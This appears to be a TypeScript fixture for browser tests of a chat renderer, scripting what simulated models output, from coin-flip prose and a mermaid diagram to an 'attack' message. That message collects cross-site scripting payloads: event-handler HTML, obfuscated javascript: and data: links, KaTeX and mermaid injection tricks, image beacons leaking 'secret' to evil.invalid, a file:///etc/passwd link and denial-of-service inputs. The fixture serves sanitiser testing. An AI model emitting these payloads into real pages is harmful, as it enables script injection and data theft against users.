/** What the simulated models of the browser tests say. A model's name chooses its script. */
const prose = `A **fair coin** lands heads half of the time. Three things follow:

1. The expected number of flips until the first head is two.
2. A run of ten tails says nothing about the next flip.
3. Doubling the stake after each loss does not change the expectation.

In symbols, for $n$ flips and $k$ heads:

$$
P(k) = \\binom{n}{k} \\, 2^{-n}
$$

A short simulation:

\`\`\`python
from random import random

def flips_until_head() -> int:
    count = 1
    while random() < 0.5:  # tails
        count += 1
    return count

print(sum(flips_until_head() for _ in range(10_000)) / 10_000)
\`\`\`

| flips | heads expected | spread |
| ----: | -------------: | -----: |
|    10 |              5 |   1.58 |
|   100 |             50 |   5.00 |
| 1,000 |            500 |  15.81 |

> The gambler's fallacy is the belief that past flips change future ones.

See [the article](https://example.com/fair-coin) for a proof. It costs between $5 and $10.
`

const diagram = `The request passes three places:

\`\`\`mermaid
flowchart LR
  A[Browser] --> B{Balance covers it?}
  B -- yes --> C[Upstream]
  B -- no --> D[Out of points]
\`\`\`

That is all.
`

/** Each line tried to run, to load or to lead somewhere in one renderer or another. */
const attacks = `<script>window.pwned = 1</script>

<img src=x onerror="window.pwned = 2">

<svg onload="window.pwned = 3"></svg> <iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>

<a href="javascript:window.pwned=5">raw</a> <details open ontoggle="window.pwned = 6">x</details>

[one](javascript:window.pwned=7) [two](JaVaScRiPt:window.pwned=8) [three](java&#115;cript:window.pwned=9)

[four](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTA8L3NjcmlwdD4=) [five](vbscript:x) [six](\\x01javascript:window.pwned=11)

[seven][ref] <javascript:window.pwned=12> [eight](//example.com/a) [nine](file:///etc/passwd)

[ref]: javascript:window.pwned=13

![ten](https://evil.invalid/?q=secret) ![eleven](http://evil.invalid/?q=secret) ![twelve](javascript:window.pwned=14)

![thirteen](data:image/svg+xml,<svg/onload=window.pwned=15>) [![fourteen](https://evil.invalid/2)](javascript:window.pwned=16)

$\\href{javascript:window.pwned=17}{x}$ $\\htmlData{a=b}{x}$ $\\includegraphics{https://evil.invalid/3}$ $\\url{javascript:window.pwned=18}$

$$
\\def\\a{\\a\\a}\\a <img src=x onerror=window.pwned=19>
$$

\`\`\`mermaid
%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%
flowchart LR
  A["<img src=x onerror=window.parent.pwned=20>"] --> B
  click A href "javascript:window.parent.pwned=21"
  click B call alert(22)
\`\`\`

\`\`\`mermaid
flowchart LR
${Array.from({ length: 2_000 }, (_, index) => `  n${index} --> n${index + 1}`).join("\n")}
\`\`\`

Still here.
`

const words = "The quick brown fox jumps over the lazy dog and thinks about it for a while. "

export const scripts = {
  "prose-1": {
    text: prose,
    delayMs: 4,
    reasoning: "A question about chance. Two steps: the expectation, then the spread.",
  },
  "slow-1": { text: words.repeat(12), delayMs: 30, reasoning: "" },
  "diagram-1": { text: diagram, delayMs: 2, reasoning: "" },
  "attack-1": { text: attacks, delayMs: 0, reasoning: "" },
  "broken-1": { text: "", delayMs: 0, reasoning: "" },
} as const
export type ScriptedModel = keyof typeof scripts
